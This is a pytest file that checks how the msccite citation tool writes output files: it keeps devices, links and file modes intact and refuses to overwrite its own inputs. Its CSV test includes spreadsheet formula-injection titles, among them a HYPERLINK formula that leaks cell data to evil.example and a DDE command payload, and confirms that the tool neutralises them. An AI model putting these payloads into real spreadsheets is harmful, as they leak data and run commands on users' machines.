"""What msccite does to the user's files (issue 30): one output policy for ``convert -o``, ``dedupe -o/--clusters/
--uncertain`` and ``msccite.write`` (src/msccite/outputs.py).

Devices and FIFOs are written in place, never replaced; an input that cannot be read replaces nothing; an output
naming an input is refused unless ``--in-place``; an overwritten file keeps its mode, owner, symbolic and hard links;
a new file follows the umask; errors name the target, never a temporary file; the CSVs are safe in a spreadsheet.
Each case runs ``python -m msccite`` in a real process, as a user would.
"""

from __future__ import annotations

import contextlib
import csv
import os
import select
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

import msccite
from msccite.dedupe.report import safe_cell
from msccite.outputs import OutputError
from paths import ROOT, SEEDS

pytestmark = pytest.mark.skipif(os.name != "posix", reason="POSIX files: modes, links, FIFOs, devices, umask")

SEED = SEEDS / "003_98c53ee05b756194.txt"  # a RIS export, 4.6 kB
RIS = "TY  - JOUR\nTI  - {title}\nAU  - Smith, John\nPY  - 2020\nT2  - Journal of Things\nDO  - {doi}\nER  - \n"
ROOT_AND_DEVICES = pytest.mark.skipif(
    not hasattr(os, "geteuid")
    or os.geteuid() != 0
    or not os.access("/dev/null", os.W_OK)
    or not os.path.exists("/dev/full"),
    reason="needs root (to put back a device node a regression would replace) and a writable /dev/null, /dev/full",
)


def run(*args: str | Path, cwd: Path | None = None, umask: int | None = None, fsize: int | None = None,
        stdin: str | None = None) -> subprocess.CompletedProcess:  # fmt: skip
    """``python -m msccite ARGS`` in a fresh process, with ``umask`` and a file size limit when given."""
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))

    def limits() -> None:
        if umask is not None:
            os.umask(umask)
        if fsize is not None:  # a write past it fails with EFBIG, as on a full disk (Python ignores SIGXFSZ)
            import resource

            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))

    return subprocess.run([sys.executable, "-m", "msccite", *map(str, args)], input=stdin, capture_output=True,
                          text=True, timeout=120, env=env, cwd=cwd, preexec_fn=limits)  # fmt: skip


def expected_ris() -> str:
    return run("convert", SEED, "-t", "ris").stdout


def temporaries(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir() if p.name.startswith(".msccite-") or p.name.endswith(".tmp"))


def no_temporary_name(stderr: str) -> None:
    assert ".msccite-" not in stderr and ".tmp" not in stderr and "Traceback" not in stderr, stderr
    assert "msccite: : " not in stderr, stderr  # an error without the file's name


@contextlib.contextmanager
def device_kept(path: str):
    """Put the device node back (as root) should a regression have replaced it by a regular file."""
    before = os.stat(path)
    try:
        yield
    finally:
        if not stat.S_ISCHR(os.lstat(path).st_mode):
            os.unlink(path)
            os.mknod(path, stat.S_IFCHR | stat.S_IMODE(before.st_mode), before.st_rdev)
            os.chmod(path, stat.S_IMODE(before.st_mode))  # mknod's mode went through the umask


# -- devices, FIFOs and standard output are written in place -------------------------------------------------------
@ROOT_AND_DEVICES
def test_dev_null_stays_a_character_device():
    with device_kept("/dev/null"):
        proc = run("convert", SEED, "-t", "ris", "-o", "/dev/null")
        assert proc.returncode == 0, proc.stderr
        assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)
        assert os.stat("/dev/null").st_size == 0


@ROOT_AND_DEVICES
@pytest.mark.parametrize("command", ["convert", "dedupe", "api"])
def test_dev_full_is_a_clear_error_naming_the_target(command):
    with device_kept("/dev/full"):
        if command == "api":
            with pytest.raises(OSError, match="No space") as err:
                msccite.write(msccite.read(SEED), "/dev/full", "ris")
            assert isinstance(err.value, OutputError) and err.value.filename == "/dev/full"
            assert str(err.value) == "cannot write /dev/full: No space left on device"
        else:
            proc = run(command, SEED, "-t", "ris", "-o", "/dev/full")
            assert proc.returncode == 1, proc.stderr
            assert "msccite: cannot write /dev/full: No space left on device" in proc.stderr
            no_temporary_name(proc.stderr)
        assert stat.S_ISCHR(os.lstat("/dev/full").st_mode)


@ROOT_AND_DEVICES
@pytest.mark.parametrize("jobs", ["1", "2"])
def test_standard_output_on_a_full_disk_names_standard_output(jobs):
    with device_kept("/dev/full"), open("/dev/full", "w") as full:
        env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
        args = [sys.executable, "-m", "msccite", "convert", str(SEED), str(SEED), "-t", "ris", "--jobs", jobs]
        proc = subprocess.run(args, stdout=full, stderr=subprocess.PIPE, text=True, env=env, timeout=120)
    assert proc.returncode == 1
    assert "msccite: cannot write standard output: No space left on device" in proc.stderr
    no_temporary_name(proc.stderr)


def test_a_fifo_receives_the_bytes_and_stays_a_fifo(tmp_path):
    fifo = tmp_path / "out.ris"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # open first: msccite's open of the FIFO does not wait
    got = bytearray()
    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
    proc = subprocess.Popen([sys.executable, "-m", "msccite", "convert", str(SEED), "-t", "ris", "-o", str(fifo)],
                            stderr=subprocess.PIPE, env=env)  # fmt: skip
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            finished = proc.poll() is not None
            if select.select([reader], [], [], 0.05)[0]:
                with contextlib.suppress(BlockingIOError):
                    chunk = os.read(reader, 1 << 16)
                    got += chunk
                    if chunk:
                        continue
            if finished:
                break
            time.sleep(0.01)
    finally:
        os.close(reader)
        if proc.poll() is None:
            proc.kill()
        stderr = proc.communicate()[1]
    assert proc.returncode == 0, stderr
    assert got.decode("utf-8") == expected_ris()
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert temporaries(tmp_path) == []


def test_dash_is_standard_output_not_a_file_named_dash(tmp_path):
    proc = run("convert", SEED, "-t", "ris", "-o", "-", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == expected_ris()
    assert list(tmp_path.iterdir()) == []
    proc = run("dedupe", SEED, "-t", "ris", "-o", "-", cwd=tmp_path)
    assert proc.returncode == 0 and proc.stdout.count("TY  - ") == 1, proc.stderr
    assert list(tmp_path.iterdir()) == []


# -- an input that cannot be read replaces nothing ------------------------------------------------------------------
@pytest.mark.parametrize("command", ["convert", "dedupe"])
@pytest.mark.parametrize("problem", ["missing", "empty", "binary"])
@pytest.mark.parametrize("jobs", ["1", "2"])
def test_an_unreadable_input_leaves_the_output_byte_for_byte(tmp_path, command, problem, jobs):
    source = tmp_path / "refs.ris"
    if problem == "empty":
        source.write_bytes(b"")
    elif problem == "binary":
        source.write_bytes(bytes(range(256)) * 8)
    target = tmp_path / "out.ris"
    old = b"TY  - JOUR\r\nTI  - A reviewer's hand-made record\r\nER  - \r\n\x00"
    target.write_bytes(old)
    extra = ["--jobs", jobs] if command == "convert" else []
    clusters = ["--clusters", str(tmp_path / "c.csv")] if command == "dedupe" else []
    if clusters:
        (tmp_path / "c.csv").write_text("kept,as,is\n", encoding="utf-8")
    proc = run(command, source, "-t", "ris", "-o", target, *extra, *clusters)
    assert proc.returncode == 1, proc.stderr
    assert str(source) in proc.stderr  # the message names the input
    assert target.read_bytes() == old
    if clusters:
        assert (tmp_path / "c.csv").read_text(encoding="utf-8") == "kept,as,is\n"
    assert temporaries(tmp_path) == []
    no_temporary_name(proc.stderr)


# -- an output naming an input, or another output ---------------------------------------------------------------------
def test_convert_refuses_to_overwrite_its_input(tmp_path):
    path = tmp_path / "refs.ris"
    path.write_bytes(SEED.read_bytes())
    link = tmp_path / "link.ris"
    link.symlink_to(path.name)
    hard = tmp_path / "hard.ris"
    os.link(path, hard)
    for inp, out in ((path, path), (link, path), (path, link), (hard, path), (path, tmp_path / "." / "refs.ris")):
        proc = run("convert", inp, "-t", "bibtex", "-o", out)
        assert proc.returncode == 2, (inp, out, proc.stderr)
        assert f"-o {out} names the input {inp}" in proc.stderr and "--in-place" in proc.stderr
        assert path.read_bytes() == SEED.read_bytes() and link.is_symlink()
    assert temporaries(tmp_path) == []


def test_dedupe_refuses_outputs_naming_an_input_or_each_other(tmp_path):
    path = tmp_path / "refs.ris"
    path.write_bytes(SEED.read_bytes())
    link = tmp_path / "link.csv"
    link.symlink_to("c.csv")
    cases = [
        (["-o", path], "-o"),
        (["-o", tmp_path / "m.ris", "--clusters", path], "--clusters"),
        (["-o", tmp_path / "m.ris", "--uncertain", path, "--in-place"], "--uncertain"),
        (["-o", tmp_path / "m.ris", "--clusters", tmp_path / "m.ris"], "--clusters"),
        (["-o", tmp_path / "m.ris", "--clusters", tmp_path / "c.csv", "--uncertain", link], "--uncertain"),
    ]
    for args, flag in cases:
        proc = run("dedupe", path, *args)
        assert proc.returncode == 2, (args, proc.stderr)
        assert f"error: {flag} " in proc.stderr and "names " in proc.stderr
        assert path.read_bytes() == SEED.read_bytes()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.csv", "refs.ris"]


def test_in_place_reads_the_input_whole_then_replaces_it(tmp_path):
    path = tmp_path / "refs.ris"
    path.write_bytes(SEED.read_bytes())
    os.chmod(path, 0o640)
    expected = run("convert", SEED, "-t", "bibtex").stdout
    proc = run("convert", path, "-t", "bibtex", "-o", path, "--in-place")
    assert proc.returncode == 0, proc.stderr
    assert path.read_text(encoding="utf-8") == expected
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
    proc = run("dedupe", SEED, "-o", path, "-t", "ris", "--in-place")
    assert proc.returncode == 0 and path.read_text(encoding="utf-8").count("TY  - ") == 1
    assert temporaries(tmp_path) == []


# -- mode, owner, symbolic and hard links ---------------------------------------------------------------------------
def test_an_overwritten_file_keeps_its_mode_and_owner(tmp_path):
    out = tmp_path / "out.ris"
    out.write_text("old\n", encoding="utf-8")
    os.chmod(out, 0o644)
    root = hasattr(os, "geteuid") and os.geteuid() == 0
    if root:
        os.chown(out, 65534, 65534)  # nobody
    proc = run("convert", SEED, "-t", "ris", "-o", out, umask=0o077)
    assert proc.returncode == 0, proc.stderr
    assert out.read_text(encoding="utf-8") == expected_ris()
    assert stat.S_IMODE(out.stat().st_mode) == 0o644
    if root:
        assert (out.stat().st_uid, out.stat().st_gid) == (65534, 65534)


@pytest.mark.parametrize("umask", [0o022, 0o027, 0o002])
def test_a_new_file_follows_the_umask(tmp_path, umask):
    out, clusters = tmp_path / "new.ris", tmp_path / "clusters.csv"
    assert run("convert", SEED, "-t", "ris", "-o", out, umask=umask).returncode == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o666 & ~umask
    assert run("dedupe", SEED, "-o", tmp_path / "m.ris", "--clusters", clusters, umask=umask).returncode == 0
    assert stat.S_IMODE(clusters.stat().st_mode) == 0o666 & ~umask


def test_a_symbolic_link_is_written_through(tmp_path):
    (tmp_path / "real").mkdir()
    target = tmp_path / "real" / "refs.ris"
    target.write_text("old\n", encoding="utf-8")
    link = tmp_path / "refs.ris"
    link.symlink_to(Path("real") / "refs.ris")
    proc = run("convert", SEED, "-t", "ris", "-o", link)
    assert proc.returncode == 0, proc.stderr
    assert link.is_symlink() and os.readlink(link) == str(Path("real") / "refs.ris")
    assert target.read_text(encoding="utf-8") == expected_ris()
    assert temporaries(tmp_path) == [] and temporaries(tmp_path / "real") == []


def test_a_hard_link_keeps_sharing_the_content(tmp_path):
    first, second = tmp_path / "refs.ris", tmp_path / "backup-link.ris"
    first.write_text("old content, longer than nothing\n" * 500, encoding="utf-8")
    os.link(first, second)
    inode = first.stat().st_ino
    proc = run("convert", SEED, "-t", "ris", "-o", first)
    assert proc.returncode == 0, proc.stderr
    assert first.stat().st_ino == inode and first.stat().st_nlink == 2
    assert second.read_text(encoding="utf-8") == first.read_text(encoding="utf-8") == expected_ris()
    assert temporaries(tmp_path) == []


# -- errors name the target; no temporary file is left ----------------------------------------------------------------
@pytest.mark.parametrize("existing", [False, True])
def test_a_write_that_fails_half_way_names_the_target_and_leaves_nothing(tmp_path, existing):
    out = tmp_path / "out.ris"
    if existing:
        out.write_text("old\n", encoding="utf-8")
    proc = run("convert", SEED, "-t", "ris", "-o", out, fsize=1024)  # the output is 4 kB: EFBIG half way
    assert proc.returncode == 1
    assert f"msccite: cannot write {out}: File too large" in proc.stderr
    no_temporary_name(proc.stderr)
    assert temporaries(tmp_path) == []
    assert (out.read_text(encoding="utf-8") == "old\n") if existing else not out.exists()


def test_a_missing_directory_names_the_target(tmp_path):
    out = tmp_path / "no" / "such" / "out.ris"
    proc = run("convert", SEED, "-t", "ris", "-o", out)
    assert proc.returncode == 1
    assert f"msccite: cannot write {out}: No such file or directory" in proc.stderr
    no_temporary_name(proc.stderr)


# -- the dedupe CSVs --------------------------------------------------------------------------------------------------
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full text")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 year follow-up of mesenchymal stromal cells",
    "-2 trials of bone marrow cells in children",
]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    names = ["-first.ris", 'we"ird, name.ris']
    for n, name in enumerate(names):
        records = "".join(RIS.format(title=HOSTILE_TITLES[2 * n + k], doi="10.1234/same") for k in range(2))
        (tmp_path / name).write_text(records, encoding="utf-8")
    proc = run("dedupe", "-o", "merged.ris", "--clusters", "c.csv", "--uncertain", "u.csv", "--", *names,
               cwd=tmp_path)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    with open(tmp_path / "c.csv", encoding="utf-8", newline="") as f:
        clusters = list(csv.DictReader(f))
    assert [r["file"] for r in clusters] == ["'-first.ris", "'-first.ris", 'we"ird, name.ris', 'we"ird, name.ris']
    with open(tmp_path / "u.csv", encoding="utf-8", newline="") as f:
        pairs = list(csv.DictReader(f))
    assert pairs, "the same DOI with different titles: pairs for the reviewer"
    titles = {r[f"title_{k}"] for r in pairs for k in (1, 2)}
    assert titles == {"'" + t for t in HOSTILE_TITLES}
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in pairs + clusters for cell in r.values())
    assert temporaries(tmp_path) == []


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_safe_cell_prefixes_formula_starts(cell):
    assert safe_cell(cell) == "'" + cell
    assert safe_cell("Mesenchymal " + cell) == "Mesenchymal " + cell and safe_cell(3) == 3


# -- standard input twice, encodings that are not ones -----------------------------------------------------------------
def test_standard_input_twice_is_a_usage_error():
    proc = run("convert", "-", "-", "-t", "bibtex", stdin=SEED.read_text(encoding="utf-8"))
    assert proc.returncode == 2 and "standard input ('-') can be read only once" in proc.stderr
    assert "internal error" not in proc.stderr


@pytest.mark.parametrize("command", ["convert", "check", "detect", "dedupe"])
@pytest.mark.parametrize("encoding", ["rot13", "base64", "no-such-codec"])
def test_an_encoding_that_is_not_a_text_encoding_is_a_usage_error(tmp_path, command, encoding):
    extra = {"convert": ["-t", "ris"], "dedupe": ["-o", str(tmp_path / "m.ris")]}.get(command, [])
    proc = run(command, SEED, "--encoding", encoding, *extra)
    assert proc.returncode == 2, proc.stderr
    assert f"unknown text encoding {encoding!r}" in proc.stderr and "internal error" not in proc.stderr


@pytest.mark.parametrize("command", ["convert", "check", "detect"])
def test_utf16_without_a_byte_order_mark_is_an_input_error(command):
    proc = run(command, SEED, "--encoding", "utf-16", *(["-t", "ris"] if command == "convert" else []))
    assert proc.returncode == 1, proc.stderr
    assert "cannot decode the input as utf-16" in proc.stdout + proc.stderr
    assert "internal error" not in proc.stderr and "Traceback" not in proc.stderr
